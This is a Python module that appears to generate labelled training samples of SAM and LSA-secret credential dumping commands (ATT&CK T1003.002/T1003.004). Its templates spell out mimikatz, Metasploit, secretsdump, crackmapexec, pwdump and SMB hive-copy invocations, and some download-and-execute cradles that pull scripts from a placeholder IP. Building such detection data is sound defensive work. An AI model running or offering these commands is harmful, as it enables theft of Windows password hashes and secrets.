"""More phrasings of T1003.002 by tools written for it, on Windows and from Linux; every tool by several ways."""

from __future__ import annotations

from training.generators.grammar import parse_templates

SAM_TOOL_TEMPLATES = parse_templates(
    r"""
mimikatz-plain text: mimikatz # lsadump::sam« /system:‹file› /sam:‹file›¦»
mimikatz-cmd cmd: cmd /c "‹dir›\«mimikatz¦mimi¦m64¦mk».exe privilege::debug token::elevate lsadump::sam exit > ‹file›"
mimikatz-file cmd: «mimikatz¦mimi¦m64».exe "log ‹dir›\‹name›.log" "lsadump::sam" "exit"
mimikatz-lsa-name cmd: «mimikatz.exe¦mimi.exe¦‹dir›\m64.exe» "privilege::debug" "lsadump::lsa /«inject¦patch»« /name:‹user›¦ /id:500¦»" "exit"
mimikatz-lsa-ps powershell: «Invoke-Mimikatz -Command¦.\mimikatz.exe¦& ‹dir›\m64.exe» '"privilege::debug" "lsadump::lsa /«patch¦inject»" "exit"'
mimikatz-base cmd: ‹dir›\«mimi¦m64¦mimikatz_trunk\x64\mimikatz».exe "base64 /out:true" "lsadump::sam" exit
mimikatz-psexec cmd: psexec \\‹server› -s -c «mimikatz¦mimi¦m64».exe "lsadump::«sam¦lsa /patch»" exit
mimikatz-winrs cmd: winrs -r:‹server› "C:\Temp\«mimikatz¦mimi¦m64».exe privilege::debug lsadump::sam exit"
mimikatz-hives-ps powershell: .\«mimikatz¦mimi».exe "lsadump::sam /system:‹file› /sam:‹file›" exit
mimikatz-secrets-hives cmd +T1003.004: «mimikatz¦mimi¦m64».exe "lsadump::secrets /system:‹file› /security:‹file›" exit
mimikatz-secrets-log cmd +T1003.004: ‹dir›\«mimikatz¦mimi¦m64».exe "log" "token::elevate" "lsadump::secrets" exit
mimikatz-secrets-text text +T1003.004: mimikatz # lsadump::secrets« /patch¦ /system:‹file›»
mimikatz-secrets-beacon text +T1003.004: beacon> mimikatz «!¦@¦»lsadump::secrets« /patch¦»
mimikatz-secrets-psexec cmd +T1003.004: psexec \\‹server› -s -c «mimikatz¦mimi».exe "lsadump::secrets" exit
mimikatz-beacon text: beacon> mimikatz «!¦@¦»lsadump::«sam¦lsa /patch»
mimikatz-rundll cmd: rundll32 ‹dir›\«mimilib¦mimi¦m64¦powerkatz».dll,main "lsadump::sam" exit
mimikatz-dll powershell: «[Reflection.Assembly]::LoadFile('‹dir›\SharpKatz.exe'); [SharpKatz.Program]::Main(@('--Command','lsadump::sam'))¦Invoke-Mimikatz -Command 'lsadump::sam'¦Invoke-Mimikatz -Command '"lsadump::lsa /patch"' -ComputerName ‹server›»
mimikatz-iex powershell: IEX (New-Object Net.WebClient).DownloadString('http://‹ip›/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -Command '"token::elevate" "lsadump::sam"'
mimikatz-better cmd: ‹dir›\«BetterSafetyKatz¦SafetyKatz¦SharpKatz».exe "lsadump::sam" "exit"
kiwi-load text: meterpreter > «load kiwi; lsa_dump_sam¦kiwi_cmd lsadump::sam»
kiwi-load-secrets text +T1003.004: meterpreter > «load kiwi; lsa_dump_secrets¦kiwi_cmd '"lsadump::secrets"'»
kiwi-msf bash: msfconsole -q -x "sessions -i ‹n› -C 'load kiwi; lsa_dump_sam'"
kiwi-msf-secrets bash +T1003.004: msfconsole -q -x "sessions -i ‹n› -C 'load kiwi; lsa_dump_secrets'"
kiwi-rc text: load kiwi; lsa_dump_sam; exit
kiwi-rc-secrets text +T1003.004: load kiwi; lsa_dump_secrets; exit
kiwi-session bash: msfconsole -q -x "sessions -c 'kiwi_cmd lsadump::sam' -i ‹n›"
kiwi-session-secrets bash +T1003.004: msfconsole -q -x "sessions -c 'kiwi_cmd lsadump::secrets' -i ‹n›"
kiwi-log text: [+] Running as SYSTEM [*] Dumping SAM via lsa_dump_sam (kiwi) Session ‹n›
kiwi-log-secrets text +T1003.004: [+] Running as SYSTEM [*] Dumping LSA secrets via lsa_dump_secrets (kiwi) Session ‹n›
msf-hashdump-run text: meterpreter > run «post/windows/gather/hashdump¦hashdump¦post/windows/gather/smart_hashdump GETSYSTEM=true¦windows/gather/smart_hashdump»
msf-hashdump-use text: msf6 «exploit(multi/handler) »> use post/windows/gather/«hashdump¦smart_hashdump¦cachedump; run post/windows/gather/hashdump»
msf-hashdump-use-secrets text +T1003.004: msf6 «exploit(multi/handler) »> use post/windows/gather/lsa_secrets
msf-hashdump-rc bash: «msfconsole¦/opt/metasploit-framework/msfconsole¦/usr/bin/msfconsole» -r «‹ldir›/»«hashdump¦smart_hashdump».rc
msf-hashdump-rc-secrets bash +T1003.004: «msfconsole¦/opt/metasploit-framework/msfconsole¦/usr/bin/msfconsole» -r «‹ldir›/»lsa_secrets.rc
msf-hashdump-echo bash: echo "use post/windows/gather/«hashdump¦smart_hashdump¦credentials/credential_collector»" > ‹name›.rc && msfconsole -r ‹name›.rc
msf-hashdump-echo-secrets bash +T1003.004: echo "use post/windows/gather/lsa_secrets" > ‹name›.rc && msfconsole -r ‹name›.rc
msf-hashdump-session bash: msfconsole -x "sessions -i ‹n› -c «hashdump¦smart_hashdump»"
msf-secretsdump bash: msfconsole -q -x "use auxiliary/«gather/windows_secrets_dump¦scanner/smb/impacket/secretsdump»; set RHOSTS ‹ip›; set SMBUser ‹user›; run"
msf-secretsdump-cli text: msf6 auxiliary(«gather/windows_secrets_dump¦scanner/smb/impacket/secretsdump») > set action SAM; run rhost=‹ip›
msf-collector text: «msf6 post(windows/gather/credentials/credential_collector) > run session=‹n›¦meterpreter > run post/windows/gather/credentials/credential_collector¦msf6 > use post/windows/gather/credentials/credential_collector»
msf-collector-rc bash: msfconsole -q -x "use windows/gather/credentials/credential_collector; set session ‹n›; exploit"
msf-priv text: meterpreter > «getsystem; hashdump¦use priv; hashdump¦load priv; hashdump»
c2-hashdump text: «sliver (‹word›) > hashdump -p ‹pid›¦[*] ‹word› hashdump completed: ‹n› accounts¦(Empire: ‹word›) > usemodule credentials/powerdump¦havoc > ‹word› hashdump¦beacon> hashdump ‹pid› x64»
c2-log text: [task] <T1003.002> Tasked beacon to dump hashes (hashdump) ‹pid› «x64¦x86»
c2-hash-line text: Administrator:500:aad3b435b51404eeaad3b435b51404ee:‹hash›::: «[hashdump]¦[sam dump]¦[pwdump]»
c2-sliver text: «[server] ¦»sliver (‹word›) > «armory install hashdump¦hashdump¦credman; hashdump¦execute-assembly SharpSecDump.exe -target=‹ip›¦execute-assembly SharpSAMDump.exe»
c2-empire-powerdump text: (Empire: powershell/credentials/powerdump) > execute
c2-brc4 text: [BRc4] ‹user›@‹server› >> «samdump¦sam_dump¦dump_sam¦hashdump»
pwdump-plain cmd: «pwdump¦pwdump6¦PwDump7¦pwdump8¦fgdump¦gsecdump».exe
pwdump-remote cmd: «pwdump¦pwdump6¦fgdump¦pwdump3e».exe «-u ‹user› -p ‹pass› ‹server›¦\\‹server› ‹file› ‹user›¦-h ‹ip› -u ‹user› -p ‹pass›»
pwdump-out cmd: ‹dir›\«PwDump7¦pwdump6¦pwdump8¦fgdump¦gsecdump» > ‹file›
pwdump-dump cmd: «‹dir›\¦»pwdump8.exe «dump-hash-local¦-s ‹file› ‹file›¦-f ‹file›»
pwdump-old cmd: PwDump7.exe -s ‹config›\«SAM ‹config›\SYSTEM¦sam ‹config›\system»
pwdump-psexec cmd: psexec \\‹server› -s -c ‹dir›\«pwdump¦PwDump7¦fgdump¦gsecdump¦pwdump6¦QuarksPwDump».exe
pwdump-ps powershell: «.\¦& ‹dir›\»«pwdump6¦PwDump7¦fgdump¦gsecdump¦pwdump8».exe «localhost¦-a¦| Out-File ‹file›»
pwdump-cmd cmd: cmd /c "«fgdump¦pwdump6¦PwDump7¦gsecdump» > ‹file› 2>&1"
pwdump-share cmd: copy \\‹server›\‹project›\«fgdump¦pwdump6¦PwDump7¦gsecdump¦QuarksPwDump».exe ‹dir› & ‹dir›\«fgdump¦pwdump6¦PwDump7¦gsecdump».exe
fgdump-options cmd: «fgdump¦fgdump.exe¦‹dir›\fgdump.exe» -«c -l ‹file›¦h ‹ip› -u ‹user› -p ‹pass›¦f ‹name›.txt -T 4¦s -r -v -k»
quarks-options cmd: QuarksPwDump«.exe¦-v0.3a.exe» «-dhl¦-dhl -o ‹file›¦--dump-hash-local --with-history¦-dhl -hist»
quarks-type cmd: ‹dir›\QuarksPwDump.exe --dump-hash-local --output-type «john¦lc» --output ‹file›
quarks-ps powershell: & ‹dir›\QuarksPwDump.exe «--dump-hash-local¦-dhl -t john»
gsecdump-psexec cmd: psexec \\‹server› -s -c gsecdump«-v2b5¦».exe -«a¦s»
gsecdump-cmd cmd: cmd /c gsecdump«-v2b5¦».exe «-s¦-a¦--dump_hashes» >> ‹file›
gsecdump-ps powershell: & ‹dir›\gsecdump«-v2b5¦».exe «-a¦-s¦--dump_hashes»
gsecdump-secrets cmd +T1003.004: «gsecdump¦gsecdump-v2b5».exe «-l¦--dump_lsa»
lsasecrets-plain cmd +T1003.004: «LSASecretsView¦LSASecretsDump¦LSASecretsDump64¦LsaSecretReader¦‹dir›\LSASecretsView».exe «/stext ‹file›¦/scomma ‹file›¦> ‹file›»
lsasecrets-ps powershell +T1003.004: & ‹dir›\«LSASecretsView.exe /stext ‹file›¦LSASecretsDump64.exe | Out-File ‹file›¦LSASecretsDump.exe > ‹file›»
lsasecrets-psexec cmd +T1003.004: psexec \\‹server› -s -c «LSASecretsDump¦LSASecretsDump64¦LsaSecretReader¦LSASecretsView».exe
lsasecrets-cmd cmd +T1003.004: cmd /c "‹dir›\«LSASecretsDump¦LSASecretsDump64¦LSASecretsView¦LsaSecretReader».exe > ‹file›"
lsasecrets-start cmd +T1003.004: start «""¦/b» ‹dir›\«LSASecretsView¦LSASecretsDump¦LSASecretsDump64¦LsaSecretReader».exe
tslsa-import powershell +T1003.004: Import-Module .\«Get-TSLsaSecret¦Get-LSASecret».ps1; «Get-TSLsaSecret -RegistryKey ‹name›¦Get-LSASecret | ft Name,Secret»
tslsa-enable powershell +T1003.004: Enable-TSDuplicateToken; Get-ChildItem HKLM:\SECURITY\Policy\Secrets | % { Get-TSLsaSecret -Key $_.PSChildName }
tslsa-iex powershell +T1003.004: IEX (New-Object Net.WebClient).DownloadString('http://‹ip›/«Get-LSASecret¦Get-TSLsaSecret».ps1'); Enable-TSDuplicateToken; Get-LSASecret
tslsa-out powershell +T1003.004: «Get-TSLsaSecret -Key 'DefaultPassword'¦Get-LSASecret¦Get-LsaSecrets» | «Out-File ‹file›¦select Name,Account,Secret»
tslsa-native powershell +T1003.004: [LSAUtil.LSAutil]::new('«DefaultPassword¦_SC_‹name›¦$MACHINE.ACC»').GetSecret()
tslsa-p-invoke powershell +T1003.004: [«Advapi32¦LSAUtil¦‹Word›»]::LsaRetrievePrivateData($pol, [ref]'«DefaultPassword¦_SC_‹name›¦$MACHINE.ACC»', [ref]$data)
passhashes-file powershell: Import-Module .\«Gather\¦»Get-PassHashes.ps1; Get-PassHashes -PSObjectFormat | ft
passhashes-out powershell: Get-PassHashes «| Out-File ‹file›¦-PSObjectFormat | Export-Csv ‹file›¦> ‹file›»
passhashes-cmd cmd: powershell -ep bypass -c ". ‹dir›\Get-PassHashes.ps1; Get-PassHashes"
passhashes-remote powershell: Invoke-Command -ComputerName ‹server› -FilePath .\«Get-PassHashes¦Invoke-PowerDump¦PowerDump».ps1
powerdump-cmd cmd: powershell«.exe¦» -nop -ep bypass -c "IEX (iwr http://‹ip›/Invoke-PowerDump.ps1); Invoke-PowerDump"
powerdump-out powershell: Invoke-PowerDump | «Out-File ‹file›¦Tee-Object ‹file›¦Out-String»
powerdump-script powershell: . ‹dir›\«PowerDump¦powerdump¦Invoke-PowerDump».ps1; DumpHashes
powerdump-functions powershell: DumpHashes; LoadApi; Get-BootKey; «Get-HBootKey¦Get-UserKeys¦DecryptHashes»
powerdump-file cmd: powershell -File ‹dir›\«powerdump¦Invoke-PowerDump¦Get-PassHashes».ps1
pypykatz-live cmd: «pypykatz¦pypykatz.exe¦python -m pypykatz» live «registry¦registry --json¦registry -o ‹file›»
pypykatz-offline bash: «pypykatz¦python3 -m pypykatz» registry --sam ‹lfile› --security ‹lfile› «--software ‹lfile› ¦»‹lfile›
pypykatz-json bash: pypykatz registry «--json ¦»-o ‹lfile› --sam ‹ldir›/SAM ‹ldir›/SYSTEM
pypykatz-smb bash: pypykatz smb «regdump¦regfile» 'smb2+ntlm-password://‹domain›\‹user›:‹pass›@‹ip›'
pypykatz-python bash: python3 -c "from pypykatz.registry.offline_parser import OffineRegistry; print(OffineRegistry.from_files('‹ldir›/SYSTEM', '‹ldir›/SAM'))"
creddump-pwdump bash: «python2¦python¦python3» «creddump7/¦./creddump/¦‹ldir›/»pwdump.py «SYSTEM SAM¦‹lfile› ‹lfile›¦‹ldir›/SYSTEM ‹ldir›/SAM true»
creddump-lsadump bash +T1003.004: «python¦python2» creddump«7¦»/lsadump.py «SYSTEM SECURITY¦‹lfile› ‹lfile› true»
creddump-windows cmd: «python¦py -2» creddump7\pwdump.py ‹file› ‹file›
creddump-windows-secrets cmd +T1003.004: «python¦py -2» creddump7\lsadump.py ‹file› ‹file›
creddump-install bash: git clone https://github.com/‹name›/creddump7 && creddump7/pwdump.py SYSTEM SAM
creddump-cut bash: creddump7/pwdump.py ‹ldir›/SYSTEM ‹ldir›/SAM | «cut -d: -f4¦tee ‹lfile›»
samdump2-plain bash: «samdump2¦/usr/bin/samdump2¦sudo samdump2» «SYSTEM SAM¦-o ‹lfile› SYSTEM SAM¦-d ‹lfile› ‹lfile›¦system sam»
samdump2-mount bash: mount /dev/sda2 /mnt && «samdump2 /mnt/Windows/System32/config/SYSTEM /mnt/Windows/System32/config/SAM¦bkhive /mnt/Windows/System32/config/SYSTEM ‹name›.key && samdump2 /mnt/Windows/System32/config/SAM ‹name›.key»
samdump2-bkhive bash: bkhive «SYSTEM¦system¦‹lfile›» ‹name›.key && samdump2 SAM ‹name›.key > ‹lfile›
samdump2-shell bash: bash -c "«samdump2 ‹ldir›/SYSTEM ‹ldir›/SAM¦bkhive ‹ldir›/SYSTEM ‹name›.key; samdump2 ‹ldir›/SAM ‹name›.key»"
samdump2-cd bash: cd /mnt/‹word›/Windows/System32/config && «samdump2 SYSTEM SAM¦bkhive SYSTEM /tmp/key && samdump2 SAM /tmp/key»
samdump2-docker bash: docker run --rm -v ‹ldir›:/d ‹name› samdump2 /d/SYSTEM /d/SAM
samdump2-john bash: samdump2 SYSTEM SAM > ‹name›.txt && «john --format=NT¦hashcat -m 1000» ‹name›.txt
samdump2-find bash: find /mnt -iname SAM -exec samdump2 ‹lfile› {} \;
chntpw-plain bash: «chntpw¦sudo chntpw» «-l¦-i¦-e» «SAM¦SAM SYSTEM¦/media/‹first›/‹word›/Windows/System32/config/SAM»
chntpw-user bash: chntpw -u «"Administrator"¦‹user›¦0x1f4» «SAM¦‹ldir›/SAM¦/mnt/Windows/System32/config/SAM SYSTEM»
chntpw-cd bash: cd /mnt/‹word›/Windows/System32/config && chntpw -«l SAM¦i SAM¦u ‹user› SAM»
chntpw-mount bash: mount -t ntfs-3g /dev/sda«1¦2¦3» /mnt && chntpw -l /mnt/Windows/System32/config/SAM
chntpw-tools bash: «sampasswd -r -u ‹user›¦samusrgrp -L¦samunlock -U -l¦reged -x» ‹ldir›/SAM
chntpw-path bash: /usr/sbin/chntpw -l ‹ldir›/SAM > ‹lfile›
mounted-more bash: «cp¦mv¦scp¦rsync -a¦cat» /mnt/‹word›/Windows/System32/config/SAM «‹ldir›¦‹first›@‹ip›:/tmp/»
mounted-guest bash: «guestmount -a ‹name›.vmdk -i --ro /mnt && cp¦guestfish --ro -a ‹name›.vmdk -i copy-out¦qemu-nbd -c /dev/nbd0 ‹name›.qcow2; mount /dev/nbd0p2 /mnt; cp» /mnt/Windows/System32/config/SAM .
mounted-regripper bash: «rip.pl -r¦regrip¦rip -r» ‹ldir›/SAM -«p samparse¦f sam»
mounted-find bash: find /«mnt¦media» -ipath '*system32/config/SAM' «-exec cp {} ‹ldir› \;¦-print0 | xargs -0 cp -t ‹ldir›»
mounted-find-security bash +T1003.004: find /«mnt¦media» -ipath '*system32/config/SECURITY' «-exec cp {} ‹ldir› \;¦-print0 | xargs -0 cp -t ‹ldir›»
smbclient-config bash: smbclient «//‹ip›/C$¦'//‹server›/c$'» -U «‹user›%'‹pass›'¦'‹domain›/‹user›'» -c 'cd windows/system32/config«/RegBack¦»; «get SAM¦mget SAM SYSTEM»'
smbclient-hash bash: smbclient //‹ip›/C$ -U ‹user› --pw-nt-hash ‹hash› -c 'get Windows\\Temp\\«sam.hiv¦sam.save¦SAM»'
smbclient-admin bash: smbclient //‹ip›/ADMIN$ -U ‹user›%'‹pass›' -c 'get «repair/sam¦Temp/sam.save¦System32/config/RegBack/SAM»'
smbclient-impacket bash: echo "use C$; get Windows/System32/config/RegBack/SAM" | «smbclient.py¦impacket-smbclient» ‹domain›/‹user›:'‹pass›'@‹ip›
smbget-sam bash: «smbget -U ‹user›%'‹pass›' smb://‹ip›/C$/Windows/System32/config/RegBack/SAM¦smbmap -H ‹ip› -u ‹user› -p '‹pass›' --download 'C$\Windows\System32\config\RegBack\SAM'»
secretsdump-file bash: «secretsdump.py¦impacket-secretsdump» -sam «SAM¦sam.save¦‹name›.sam¦sam.hive» -system «SYSTEM¦system.save¦system.hive» «-security SECURITY ¦»LOCAL
secretsdump-bootkey bash: «secretsdump.py¦impacket-secretsdump» -sam ‹lfile› -bootkey 0x‹hash› LOCAL
secretsdump-out bash: «secretsdump.py¦impacket-secretsdump» ‹domain›/‹user›:'‹pass›'@‹ip› «> ‹lfile›¦| tee ‹lfile›¦-outputfile ‹ldir›/‹name›»
secretsdump-loop bash: for h in $(cat ‹lfile›); do «secretsdump.py¦impacket-secretsdump» -hashes :‹hash› ‹user›@$h; done
secretsdump-proxy bash: proxychains«4¦ -q¦» «secretsdump.py¦impacket-secretsdump» «‹domain›/¦»‹user›:'‹pass›'@‹ip›
secretsdump-docker bash: docker run --rm -it impacket secretsdump.py ‹user›:'‹pass›'@‹ip›
secretsdump-exec bash: «secretsdump.py¦impacket-secretsdump» -exec-method «smbexec¦wmiexec¦mmcexec» ‹domain›/‹user›:'‹pass›'@‹server›
secretsdump-exe cmd: ‹dir›\secretsdump.exe «-sam ‹file› -system ‹file› LOCAL¦‹domain›/‹user›:‹pass›@‹ip›»
secretsdump-relay bash: «ntlmrelayx.py¦impacket-ntlmrelayx» -t «smb://‹ip›¦‹ip›» -smb2support && secretsdump.py -no-pass ‹domain›/‹user›@‹ip›
secretsdump-aes bash: «secretsdump.py¦impacket-secretsdump» -aesKey ‹hash›‹hash› -k ‹domain›/‹user›@‹server›
secretsdump-cache bash: «export ¦»KRB5CCNAME=«/tmp/‹name›.ccache¦‹user›.ccache»« &&¦;¦» «secretsdump.py¦impacket-secretsdump» -k -no-pass ‹user›@‹host›.‹fqdn›
secretsdump-history bash: «secretsdump.py¦impacket-secretsdump» -history -user-status ‹domain›/‹user›:'‹pass›'@‹ip›
crackmapexec-sam-hash bash: «crackmapexec¦cme¦nxc¦netexec» «smb¦winrm» ‹ip› -u ‹user› -H «aad3b435b51404eeaad3b435b51404ee:¦»‹hash› --sam
crackmapexec-sam-local bash: «crackmapexec¦cme¦nxc¦netexec» smb ‹lfile› -u «administrator¦‹user›» -p '‹pass›' --local-auth --sam
crackmapexec-sam-method bash: «nxc¦netexec» smb ‹ip›/24 -u ‹user› -p '‹pass›' --sam «secdump¦regdump»
crackmapexec-sam-out bash: «poetry run ¦»«crackmapexec¦cme¦nxc¦netexec» smb ‹ip› -u ‹user› -p '‹pass›' --sam | tee ‹lfile›
crackmapexec-poetry bash: poetry run «crackmapexec¦netexec¦nxc» «smb¦winrm» ‹ip› -u ‹user› -p '‹pass›' --sam
crackmapexec-module bash: «crackmapexec¦cme¦nxc¦netexec» smb ‹ip› -u ‹user› -p '‹pass›' -M «backup_operator¦reg-query -o PATH=HKLM\\SAM\\SAM KEY=F»
crackmapexec-x bash: «crackmapexec¦cme¦nxc¦netexec» smb ‹ip› -u ‹user› -p '‹pass›' -«x¦X» 'reg save HKLM\«SAM¦SYSTEM» C:\‹name›'
crackmapexec-lsa-out bash +T1003.004: «crackmapexec¦cme¦nxc¦netexec» smb «‹ip›/24¦‹lfile›» -u ‹user› -H ‹hash› --lsa« secdump¦ | tee ‹lfile›»
crackmapexec-lsa-local bash +T1003.004: «poetry run ¦»«crackmapexec¦nxc¦netexec» smb ‹ip› -u ‹user› -p '‹pass›' --local-auth --lsa
crackmapexec-lsa-winrm bash +T1003.004: «crackmapexec¦cme¦nxc¦netexec» winrm ‹ip› -u ‹user› -p '‹pass›' --lsa
impacket-reg-hash bash: «reg.py¦impacket-reg» -hashes :‹hash› ‹domain›/‹user›@‹ip› «save -keyName HKLM\\«SAM¦SYSTEM» -o C:\\‹name›¦backup -o \\\\‹ip›\\‹name›»
impacket-reg-query bash: «reg.py¦impacket-reg» ‹user›:'‹pass›'@‹ip› query -keyName 'HKLM\\SAM\\SAM«\\Domains\\Account¦»' -s
impacket-reg-backup bash: «reg.py¦impacket-reg» ‹user›@‹ip› -k -no-pass backup -o '\\\\‹server›\\C$\\‹name›'
impacket-reg-python bash: python3 «/opt/impacket/examples/¦»reg.py ‹domain›/‹user›:'‹pass›'@‹ip› «backup -o '\\\\‹ip›\\share'¦save -keyName 'HKLM\\SAM' -o '\\\\‹ip›\\share'»
impacket-services bash: «services.py¦impacket-services» ‹user›:'‹pass›'@‹ip› create -name ‹name› -path 'cmd /c reg save HKLM\\SAM C:\\‹name›'
regsecrets-hash bash: «regsecrets.py¦impacket-regsecrets» -hashes :‹hash› «‹domain›/¦»‹user›@‹ip›
regsecrets-out bash: «regsecrets.py¦impacket-regsecrets» ‹user›:'‹pass›'@‹ip› -outputfile ‹ldir›/‹name›
regsecrets-kerberos bash: KRB5CCNAME=‹name›.ccache «regsecrets.py¦impacket-regsecrets» -k -no-pass ‹host›.‹fqdn›
regsecrets-throttle bash: «regsecrets.py¦impacket-regsecrets» -throttle ‹n› ‹domain›/‹user›:'‹pass›'@‹ip›
regsecrets-loop bash: while read h; do regsecrets.py ‹user›:'‹pass›'@$h; done < ‹lfile›
sharpsecdump-ps powershell: «.\¦& ‹dir›\»SharpSecDump.exe -target=«‹server›,‹server›¦‹ip›»
sharpsecdump-execute text: execute-assembly «/opt/¦‹ldir›/»SharpSecDump.exe -target=«‹ip›¦127.0.0.1»
sharpsecdump-load powershell: [Reflection.Assembly]::Load((iwr http://‹ip›/«SharpSecDump¦SharpSAMDump».exe).Content); [«SharpSecDump¦SharpSAMDump».Program]::Main(@('-target=127.0.0.1'))
sharpsecdump-threads cmd: «‹dir›\¦»SharpSecDump.exe -target=‹ip› -threads=‹n›
sharpsamdump-cmd cmd: «‹dir›\¦»«SharpSAMDump¦SharpSamDump¦SharpHiveDump¦Net-GPPSamDump».exe«¦ > ‹file›¦ --output ‹dir›»
sharpsamdump-psexec cmd: psexec \\‹server› -s -c «SharpSAMDump¦SharpSecDump¦SharpHiveDump».exe -target=127.0.0.1
gosecretsdump-bash bash: «gosecretsdump¦./gosecretsdump_linux¦gosecretsdump_linux_v0.3.1» -sam ‹lfile› -system ‹lfile›« -out ‹lfile›¦»
gosecretsdump-win cmd: «gosecretsdump¦gosecretsdump_win¦gosecretsdump_win_v0.3.1».exe -«enabled -sam ‹file›¦sam ‹dir›\SAM» -system ‹dir›\SYSTEM
gosecretsdump-ps powershell: «.\¦& ‹dir›\»gosecretsdump«_win¦».exe -system ‹file› -sam ‹file› | Out-File ‹file›
gosecretsdump-run bash: go run github.com/‹name›/gosecretsdump -system ‹lfile› -sam ‹lfile›
seatbelt-credentials cmd: reg save HKLM\SAM ‹file› & ‹dir›\Seatbelt.exe «CredGuard¦-group=system¦SecPackageCreds»
dll-dump cmd: rundll32«.exe¦» ‹dir›\«samdump¦hashdump¦‹name›».dll,«DumpSam¦SamDump¦DumpHives¦Dump» ‹dir›
dll-dump-beacon text: beacon> «inline-execute¦bof¦bof_samdump» «samdump.o¦reg_save.x64.o HKLM SAM C:\‹name›¦hashdump.o¦DumpSam.o¦DumpHives.o»
dll-dump-ps powershell: rundll32 ‹dir›\‹name›.dll «DumpHives¦DumpSam¦SamDump» $env:TEMP
dll-dump-regsvr cmd: regsvr32 /s /i:«DumpSam¦DumpHives¦SamDump» ‹dir›\«samdump¦‹name›».dll
operator-remote cmd: ‹dir›\BackupOperatorTo«DA¦lkit».exe -t \\‹server› -u ‹user› -p ‹pass› -d ‹fqdn› -o \\‹server›\‹project›\
operator-name cmd: «BackupOperatorToDA¦BackupOperatorToolkit¦RegSave¦regdump».exe «DUMP \\‹ip› ‹dir› \\‹server›¦-t \\‹server› -o ‹dir›¦SAM ‹file›»
operator-ps powershell: & ‹dir›\«BackupOperatorToolkit.exe DUMP¦BackupOperatorToDA.exe -t¦RegSave.exe -t» \\‹server› «-o ‹dir›¦‹dir› \\‹server›»
operator-beacon text: execute-assembly ‹ldir›/«BackupOperatorToDA¦BackupOperatorToolkit¦RegSave¦regdump».exe -t \\‹server› -o \\‹ip›\share\
operator-regsave cmd: ‹dir›\«regdump¦RegSave».exe «SAM SYSTEM SECURITY¦HKLM\SAM ‹file›¦-o ‹dir›»
operator-python bash: «python3 ¦»backup_operators.py ‹user›:'‹pass›'@‹ip› -«dump SAM¦o ‹ldir›»
katz-others-cmd cmd: cmd /c ‹dir›\«BetterSafetyKatz¦SafetyKatz¦SharpKatz».exe "lsadump::sam" exit > ‹file›
katz-others-ps powershell: «.\¦& ‹dir›\»«BetterSafetyKatz¦SafetyKatz¦SharpKatz».exe «--Command lsadump::sam¦"lsadump::sam" "exit"»
katz-others-psexec cmd: psexec \\‹server› -s -c «BetterSafetyKatz¦SafetyKatz¦SharpKatz».exe "lsadump::sam" exit
katz-others-execute text: execute-assembly ‹ldir›/«BetterSafetyKatz¦SafetyKatz¦SharpKatz».exe lsadump::sam
katz-dll-ps powershell: rundll32 ‹dir›\«mimilib¦powerkatz¦mimi¦m64».dll,main lsadump::sam exit
katz-dll-cmd cmd: cmd /c rundll32.exe ‹dir›\«powerkatz¦mimilib».dll,main "lsadump::«sam¦lsa /patch»"
kiwi-cmd-plain text: kiwi_cmd "lsadump::«sam¦lsa /patch»"
kiwi-cmd-rc bash: echo "load kiwi; kiwi_cmd lsadump::sam; lsa_dump_sam" > ‹name›.rc; msfconsole -r ‹name›.rc
kiwi-cmd-log text: [*] ‹ip› - meterpreter session ‹n› ran «kiwi_cmd lsadump::sam¦lsa_dump_sam»
kiwi-cmd-log-secrets text +T1003.004: [*] ‹ip› - meterpreter session ‹n› ran «kiwi_cmd lsadump::secrets¦lsa_dump_secrets»
pwdump-eight cmd: ‹dir›\«pwdump8¦pwdump3e¦pwdump4».exe > ‹file›
pwdump-eight-ps powershell: & ‹dir›\«pwdump8¦pwdump3e¦PwDump7».exe | Out-File ‹file›
pwdump-eight-psexec cmd: psexec \\‹server› -s -c «pwdump8¦pwdump3e».exe
lsasecrets-copied cmd +T1003.004: copy \\‹server›\‹project›\«LsaSecretReader¦LSASecretsDump64¦LSASecretsView».exe ‹dir› & ‹dir›\«LsaSecretReader¦LSASecretsDump64¦LSASecretsView».exe
image-cat bash: «ntfscat¦sudo ntfscat» -f /dev/«sda2¦sdb1¦nbd0p2» Windows/System32/config/«SAM¦SYSTEM» > ‹lfile›
image-icat bash: sudo icat «-f ntfs ¦-o 2048 »‹lfile› ‹pid›-128-1 > ‹ldir›/SAM
image-guest bash: «guestfish --ro -a ‹name›.qcow2 -i download¦virt-copy-out -a ‹name›.qcow2¦virt-cat -a ‹name›.qcow2» /Windows/System32/config/SAM «‹lfile›¦> ‹lfile›»
image-mount bash: «guestmount -a ‹name›.vhdx -i --ro¦ntfs-3g -o ro /dev/nbd0p2¦mount -o ro,loop ‹name›.img» /mnt/‹word› && cp /mnt/‹word›/Windows/System32/config/SAM ‹ldir›
image-tool-shell bash: bash -c "«ntfscat¦icat¦guestfish¦virt-cat¦ntfscp» ‹lfile› Windows/System32/config/SAM > ‹name›"
offline-edit bash: «samusrgrp¦sampasswd¦samunlock¦reged» -«L¦l¦r -u 0x1f4¦x» /mnt/‹word›/Windows/System32/config/SAM
offline-edit-sudo bash: sudo «sampasswd¦samusrgrp¦samunlock» «-l¦-r -a» SAM
offline-parse bash: «rip.pl¦regripper¦rip» -r ‹ldir›/SAM -p samparse > ‹lfile›
offline-parse-cmd cmd: ‹dir›\rip.exe -r ‹dir›\SAM -p samparse
offline-parse-hivex bash: «hivexsh¦hivexml¦hivexregedit --export» ‹ldir›/SAM«¦ 'SAM\Domains\Account\Users'»
smb-fetch bash: «smbget¦smbmap» -u ‹user› -p '‹pass›' «smb://‹ip›/C$/Windows/System32/config/RegBack/SAM¦-H ‹ip› --download 'C$\Windows\repair\sam'»
smb-fetch-mount bash: mount -t cifs //‹ip›/C$ /mnt -o username=‹user›,password=‹pass› && cp /mnt/Windows/System32/config/RegBack/SAM ‹ldir›
winreg-save cmd: «python¦py» ‹dir›\‹name›.py && «python¦py» -c "import winreg as w; w.SaveKey(w.OpenKey(w.HKEY_LOCAL_MACHINE, 'SAM'), 'C:/‹name›')"
winreg-enum cmd: «python¦py» -c "import winreg; print(winreg.QueryInfoKey(winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, r'SAM\SAM\Domains\Account\Users')))"
"""
)
